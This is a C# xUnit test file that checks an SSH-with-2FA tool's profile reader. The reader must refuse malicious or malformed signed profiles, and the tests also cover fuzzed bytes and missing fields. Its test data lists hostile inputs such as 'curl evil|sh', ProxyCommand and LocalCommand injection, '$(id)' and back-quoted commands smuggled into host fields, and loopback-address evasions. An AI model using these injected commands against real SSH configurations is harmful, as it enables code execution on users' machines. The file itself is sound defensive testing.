using System.Text;
using System.Text.Json.Nodes;
using Sallyport.Profile;
using SshWith2fa.Profile;

namespace SshWith2fa.Tests.Profile;

public sealed class ProfileReaderTests
{
    /// <summary>What a hostile or broken authority might try: a path in the payload and the JSON put there.</summary>
    public static TheoryData<string, string, string> Attacks { get; } = new()
    {
        { "a ProxyCommand field", "proxy-command", "\"curl evil|sh\"" },
        { "a LocalCommand option", "options", "{\"LocalCommand\":\"id\"}" },
        { "a Match exec", "match", "\"exec id\"" },
        { "an option as the outside host", "outside.host", "\"-oProxyCommand=id\"" },
        { "a newline in a host", "outside.host", "\"a\\nProxyCommand id\"" },
        { "a space in a host", "outside.host", "\"a b\"" },
        { "a quote in a host", "outside.host", "\"a\\\"b\"" },
        { "a percent token in a host", "outside.host", "\"%h\"" },
        { "a back quote in a host", "outside.host", "\"a`id`\"" },
        { "a wildcard in a host", "inside.0.names.0", "\"*\"" },
        { "a negation in a name", "inside.0.names.0", "\"!dora\"" },
        { "a comma in a name", "inside.0.names.0", "\"dora,github.com\"" },
        { "a zone in an address", "outside.host", "\"fe80::1%eth0\"" },
        { "two dots in a host", "outside.host", "\"a..b\"" },
        { "a huge host", "outside.host", $"\"{new string('a', 300)}\"" },
        { "port nought", "outside.port", "0" },
        { "port 65536", "outside.port", "65536" },
        { "a port as text", "outside.port", "\"22\"" },
        { "a port with a fraction", "outside.port", "22.5" },
        { "a privileged local port", "forwards.0.local-port", "22" },
        { "a forward to a command", "forwards.0.host", "\"$(id)\"" },
        { "a bind address in a forward", "forwards.0.bind", "\"0.0.0.0\"" },
        { "an unknown port rule", "forwards.0.if-taken", "\"steal\"" },
        { "two forwards on one port", "forwards.1.local-port", "12022" },
        { "SOCKS on a forward's port", "socks-port", "12022" },
        { "no login server", "inside.0.login", "false" },
        { "two login servers", "inside.1.login", "true" },
        { "one name for two hosts", "inside.1.names.0", "\"DORA\"" },
        { "a host key for a stranger", "host-keys.0.hosts.0", "\"github.com\"" },
        { "localhost as a name", "inside.1.names.0", "\"localhost\"" },
        { "localhost in capitals and with a dot", "inside.1.names.0", "\"LocalHost.\"" },
        { "a name below localhost", "inside.1.names.0", "\"x.localhost\"" },
        { "the loopback address as a name", "inside.1.names.0", "\"127.0.0.1\"" },
        { "another loopback address as a name", "inside.1.names.0", "\"127.8.9.10\"" },
        { "the loopback address in short", "inside.1.names.0", "\"127.1\"" },
        { "the loopback address in hex", "inside.1.names.0", "\"0x7f000001\"" },
        { "the loopback address as a number", "inside.1.names.0", "\"2130706433\"" },
        { "the loopback address of IPv6", "inside.1.names.0", "\"::1\"" },
        { "the mapped loopback address", "inside.1.names.0", "\"::ffff:127.0.0.1\"" },
        { "no address as a name", "inside.1.names.0", "\"0.0.0.0\"" },
        { "a host key for every host", "host-keys.0.hosts.0", "\"*\"" },
        { "a host key with a marker", "host-keys.0.key", "\"@cert-authority ssh-ed25519 AAAA\"" },
        { "a host key with a second line", "host-keys.0.key", "\"ssh-ed25519 AAAA\\ngithub.com ssh-ed25519 AAAA\"" },
        { "a host key of another type inside", "host-keys.0.key", "\"ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIFNjmmL6y9IQGbUS/Z3WUktuhEzs9GYzF1Ox2MW3bNXu\"" },
        { "a host key of no known type", "host-keys.0.key", "\"ssh-dss AAAA\"" },
        { "a network that is none", "networks.0", "\"everything\"" },
        { "a network without a length", "networks.0", "\"192.0.2.0\"" },
        { "a portal without TLS", "portal", "\"http://2fa.maths.example\"" },
        { "a portal with a password", "portal", "\"https://a:b@2fa.maths.example\"" },
        { "a portal in quotes", "portal", "\"https://2fa.maths.example/\\\"x\"" },
        { "an unknown X11 word", "x11", "\"yes; id\"" },
        { "compression as text", "compression", "\"yes\"" },
        { "a negative keepalive", "keepalive", "-1" },
        { "serial nought", "serial", "0" },
        { "a serial past 64 bits", "serial", "99999999999999999999" },
        { "a time without a zone", "issued-at", "\"2026-11-20T18:00:00\"" },
        { "a site name with escapes", "site", "\"\\u001b[2J\"" },
        { "a newer format", "version", "2" },
        { "null for an object", "outside", "null" },
        { "a list for an object", "session", "[]" },
        { "an object for a list", "inside", "{}" },
        { "an empty list of hosts", "inside", "[]" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void A_profile_is_refused_with(string attack, string path, string json)
    {
        Assert.NotEmpty(attack);
        var payload = Signer.Payload();
        Set(payload, path.Split('.'), JsonNode.Parse(json));
        var read = ProfileReader.Read(Encoding.UTF8.GetBytes(payload.ToJsonString()));
        Assert.Null(read.Value);
        Assert.DoesNotContain(read.Problem!.Sentence, c => char.IsControl(c));
    }

    [Theory]
    [InlineData("version")]
    [InlineData("site")]
    [InlineData("serial")]
    [InlineData("issued-at")]
    [InlineData("outside")]
    [InlineData("inside")]
    [InlineData("networks")]
    [InlineData("forwards")]
    [InlineData("keepalive")]
    [InlineData("x11")]
    [InlineData("compression")]
    [InlineData("host-keys")]
    [InlineData("portal")]
    [InlineData("session")]
    public void A_profile_is_refused_without(string field)
    {
        var payload = Signer.Payload();
        payload.Remove(field);
        Assert.Equal(ProfileFault.Malformed, ProfileReader.Read(Encoding.UTF8.GetBytes(payload.ToJsonString())).Problem!.Fault);
    }

    [Fact]
    public void Any_bytes_give_a_profile_or_a_problem_and_never_an_exception()
    {
        var random = new Random(20261120);
        var good = Encoding.UTF8.GetBytes(Signer.Payload().ToJsonString());
        var read = 0;
        for (var i = 0; i < 20_000; i++)
        {
            var bytes = (byte[])good.Clone();
            for (var change = random.Next(1, 6); change > 0; change--) bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            if (random.Next(4) == 0) bytes = bytes[..random.Next(bytes.Length)];
            var result = ProfileReader.Read(bytes);
            Assert.True(result.Value is null != result.Problem is null);
            if (result.Value is { } profile)
            {
                read++;
                Assert.NotNull(SiteFile.Read(SiteFile.Write(new Site(profile, "key"))));
            }
        }
        Assert.True(read > 0, "no changed profile was read: the mutation is too wild to prove anything");
    }

    private static void Set(JsonNode node, string[] path, JsonNode? value)
    {
        for (var i = 0; i < path.Length - 1; i++) node = int.TryParse(path[i], out var index) ? node[index]! : node[path[i]]!;
        if (int.TryParse(path[^1], out var last)) node[last] = value;
        else node[path[^1]] = value;
    }
}
